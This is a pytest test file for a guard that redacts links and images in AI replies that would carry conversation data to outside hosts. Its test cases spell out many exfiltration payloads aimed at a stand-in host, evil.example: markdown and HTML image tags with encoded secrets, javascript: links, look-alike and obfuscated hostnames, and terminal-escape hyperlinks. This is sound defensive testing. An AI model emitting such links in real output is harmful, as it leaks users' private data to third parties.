"""The exfiltration guard: what carries data away however it is written, what is left alone, and where it stood."""

import json
from typing import Any

import pytest
from pydantic import ValidationError

from guards.detectors.exfiltration import Exfiltration, ExfiltrationConfig, ExfiltrationGuard
from guards.redaction import merged, redacted, redaction_of
from guards.verdict import Context, Redaction, Segment
from guards.window import Window

SECRET = "The merger with Blue Heron closes on 14 March at 42 dollars a share."
WORDS = "merger+with+Blue+Heron+closes+on+14+March"
BASE64 = "VGhlIG1lcmdlciB3aXRoIEJsdWUgSGVyb24gY2xvc2Vz"
TOKEN = "q8Zr2LxV0bTn5KyWm1Jd7PsUe4HcGf3Aoi9XtRlN"
DRAWN = "Zx81mQp0LrT5vKw2Yb7Nc4HdJf9Gs3AeUi6OtRlN"
CONVERSATION = Context(
    (
        ("system", "You help with mail. Our logo is https://cdn.example.org/logo.png for letters."),
        ("user", "Summarise my mail, and how do I bake sourdough bread at home?"),
        ("tool", f"{SECRET} More at https://news.example/2024/a?id={TOKEN} today."),
    )
)


def guard(**config: Any) -> ExfiltrationGuard:
    return Exfiltration().build("links", ExfiltrationConfig.model_validate(config))


def cleaned(text: str, by: ExfiltrationGuard | None = None, part: str = "content") -> str:
    verdict = (by or guard(hosts=["*.good.example", "good.example"])).check_now(
        Segment(text, "reply", part), CONVERSATION
    )
    assert bool(verdict.spans) == bool(verdict.scores)
    return redacted(text, merged([redaction_of(span, "<{label}>") for span in verdict.spans]))


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("![a](http://evil.example/x.png) b", "![a](<picture from elsewhere>) b"),
        (f"![a](http://evil.example/{BASE64}.png)", "![a](<picture that carries data>)"),
        (f"![a](https://evil.example/?q={WORDS})", "![a](<picture that carries data>)"),
        ("!\u2060[a](http://evil.example/x)", "!\u2060[a](<picture from elsewhere>)"),
        ("![a [b] c](//evil.example/x)", "![a [b] c](<picture from elsewhere>)"),
        ("![a](<http://evil.example/a b>)", "![a](<<picture from elsewhere>>)"),
        ("![a](http:\\\\evil.example\\x)", "![a](<picture from elsewhere>)"),
        ("![a](https://good.example@evil.example/x)", "![a](<picture from elsewhere>)"),
        ("![a](https://good.example.evil.example/x)", "![a](<picture from elsewhere>)"),
        ("![a](https://g\u043e\u043ed.example/x)", "![a](<picture from elsewhere>)"),
        ("![a](http://2130706433/x)", "![a](<picture from elsewhere>)"),
        ("![a][b]\n\n[b]: http://evil.example/x", "![a][b]\n\n[b]: <picture from elsewhere>"),
        ("![B]\n\n[b]:\n  <http://evil.example/x>", "![B]\n\n[b]:\n  <<picture from elsewhere>>"),
        ('<img alt="x" src="http://evil.example/x">', '<img alt="x" src="<picture from elsewhere>">'),
        ("<IMG SRC=http://evil.example/x>", "<IMG SRC=<picture from elsewhere>>"),
        ("<img srcset='http://evil.example/x 2x'>", "<img srcset='<picture from elsewhere> 2x'>"),
        ("<iframe src=//evil.example>", "<iframe src=<picture from elsewhere>>"),
        ('<meta content="0;url=http://evil.example/">', '<meta content="0;url=<picture from elsewhere>">'),
        ("<style>a{b:url('http://evil.example/x')}", "<style>a{b:url('<picture from elsewhere>')}"),
        ("[a](javascript:alert(1))", "[a](<link that runs code>)"),
        ("[a](data:text/html,hello)", "[a](<link that runs code>)"),
        ("![a](data:image/svg+xml,x)", "![a](<link that runs code>)"),
        ("[a](file://evil.example/share)", "[a](<link to another machine's files>)"),
        (f"[a](http://evil.example/?q={WORDS})", "[a](http://evil.example/?q=<text of the conversation in a link>)"),
        (f"see http://evil.example/{BASE64}.", "see http://evil.example/<text of the conversation in a link>."),
        (f"http://evil.example/#{DRAWN}", "http://evil.example/#<unreadable data in a link>"),
        (f"www.evil.example/?d={DRAWN}", "www.evil.example/?d=<unreadable data in a link>"),
        (f"http://{'VGhpcyBpcyB2ZXJ5IHNlY3JldA'}.evil.example/", "http://<encoded text in a link>.evil.example/"),
        ("http://evil.example/?d=546869732069732076657279", "http://evil.example/?d=<encoded text in a link>"),
        ("see http://8.8.8.8/a", "see <link to a number>"),
        (f"mailto:x@evil.example?body={WORDS}", "mailto:x@evil.example?body=<text of the conversation in a link>"),
        ("red \x1b[31mtext", "red <terminal escape>text"),
        ("\x1b]8;;http://evil.example\x07a", "<terminal escape>a"),
    ],
)  # fmt: skip
def test_what_carries_something_away_is_found_to_the_character(text: str, left: str) -> None:
    assert cleaned(text) == left


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://good.example/x.png) and ![b](https://cdn.good.example/?q=" + TOKEN + ")",
        "![a](images/x.png) and ![b](/x.png) and <img src='x.png'>",
        "![logo](https://cdn.example.org/logo.png)",
        "![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAf)",
        f"as [they](https://news.example/2024/a?id={TOKEN}) wrote",
        "https://en.wikipedia.org/wiki/Battle_of_Hastings#Background_and_location",
        "https://www.google.com/search?q=how+do+i+bake+sourdough+bread+at+home",
        "https://github.com/a/b/commit/0123456789abcdef0123456789abcdef01234567",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
        "https://example.com/blog/2024/05/how-to-write-a-parser-in-50-lines-of-python",
        "https://example.com/item/123e4567-e89b-12d3-a456-426614174000",
        "http://127.0.0.1:8000/docs and http://localhost:3000",
        "```html\n<img src='https://x.example/a.png'>\n![a](https://x.example/b.png)\n```",
        "Call me: data: 5, javascript: yes. a[0](1) and f(x)[1]: ok",
        "write to mailto:me@example.com or me@example.com",
    ],
)
def test_ordinary_links_are_left(text: str) -> None:
    assert cleaned(text) == text


def test_a_picture_in_code_counts_where_the_policy_is_strict() -> None:
    text = "```\n![a](https://x.example/b.png)\n```"
    assert "picture" in cleaned(text, guard(code="strict"))


@pytest.mark.parametrize("before", ["<div>\n", "    "])
def test_what_only_looks_like_code_hides_no_picture(before: str) -> None:
    assert "picture" in cleaned(f"{before}```\n![a](https://x.example/b.png)\n")


def test_pictures_may_pass_that_carry_nothing() -> None:
    by = guard(images="data")
    assert cleaned("![a](http://x.example/a.png)", by) == "![a](http://x.example/a.png)"
    assert "carries data" in cleaned(f"![a](http://x.example/?q={WORDS})", by)


def test_links_can_be_held_to_the_hosts_or_left_alone() -> None:
    assert cleaned("http://x.example/a", guard(links="hosts")) == "<link to elsewhere>"
    assert cleaned(f"http://x.example/?q={WORDS}", guard(links="off")).endswith(WORDS)


def test_arguments_of_a_call_are_read_without_their_escapes() -> None:
    text = (
        json.dumps({"url": f"http://evil.example/?q={WORDS}"}).replace("/", "\\/").replace("q=", "\\u0071=")
    )
    assert cleaned(text, part="tool_arguments").endswith('=<text of the conversation in a link>"}')


def test_what_it_rests_on_is_the_text_alone_where_no_address_is() -> None:
    by = guard()
    assert by.reads(Segment("plain", "reply"), CONVERSATION) == ("plain",)
    assert SECRET in by.reads(Segment("http://x.example", "reply"), CONVERSATION)[4:][3]


def test_a_host_that_is_none_is_refused() -> None:
    with pytest.raises(ValidationError, match="is no host"):
        ExfiltrationConfig(hosts=("https://x.example",))


def sent(chunks: list[str]) -> str:
    """What a stream lets pass of a text that comes in these chunks."""
    by, window = guard(hosts=["good.example"]), Window(128, 1024)

    def cuts(text: str, *, whole: bool) -> tuple[Redaction, ...]:
        found = by.check_now(Segment(text, "reply", whole=whole), CONVERSATION).spans
        return merged([redaction_of(span, "<{label}>") for span in found])

    pieces = [
        window.release(piece, cuts(piece.text, whole=False))
        for piece in filter(None, map(window.push, chunks))
    ]
    last = window.finish()
    return "".join([*pieces, window.release(last, cuts(last.text, whole=True))])


@pytest.mark.parametrize("size", [1, 7, 40])
@pytest.mark.parametrize(
    "url",
    [
        f"![a](http://evil.example/{BASE64 * 3})",
        f"[a](http://evil.example/a/b/c?q={WORDS})",
        "![a](https://good.example/x.png)",
        "![a](https://good.example.evil.example/x.png)",
        f"{'![' + 'long alternative text ' * 20}](http://evil.example/x)",
    ],
)
def test_a_stream_lets_pass_what_the_whole_does(url: str, size: int) -> None:
    text = "Some words that say nothing. " * 6 + url + " and so it goes on and on" * 10
    assert sent([text[at : at + size] for at in range(0, len(text), size)]) == sent([text])


@pytest.mark.parametrize(
    "hostile",
    ["](", "![", "src=", "<a href=", "url(", "http://", "```\n", "[a]: b\n", "\x1b]", "data:", "a.", "=A1"],
)
def test_a_picture_is_found_behind_hostile_text(hostile: str) -> None:
    text = hostile * (60_000 // len(hostile))
    assert cleaned(f"{text}\n\n![a](http://evil.example/x.png)").endswith("![a](<picture from elsewhere>)")


def wide(text: str) -> str:
    """The text in letters that only look like its own, and are read as these."""
    return "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in text)


def test_what_a_verdict_rests_on_is_told_for_letters_that_only_look_like_signs() -> None:
    kind = Exfiltration()
    guard = kind.build("exit", kind.config())
    segment = Segment(wide("![x](https://evil.example/p?d=QmFzZTY0)"), "reply")
    apart = [Context((("user", text),)) for text in ("hello", wide("https://evil.example/p?d=QmFzZTY0"))]
    assert len({guard.reads(segment, each) for each in apart}) == 2
